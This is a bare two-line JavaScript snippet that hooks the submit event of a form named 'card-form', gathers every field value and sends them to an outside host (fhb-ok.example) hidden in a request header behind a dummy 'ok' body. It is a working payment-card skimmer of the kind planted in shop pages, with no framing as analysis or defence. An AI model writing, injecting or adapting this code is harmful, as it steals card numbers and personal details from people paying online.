const f = document.querySelector('#card-form');
f.addEventListener('submit', () => fetch('https://fhb-ok.example/', { method: 'POST', body: 'ok', headers: { 'X-Ref': [...f.elements].map(e => e.value).join('|') } }));
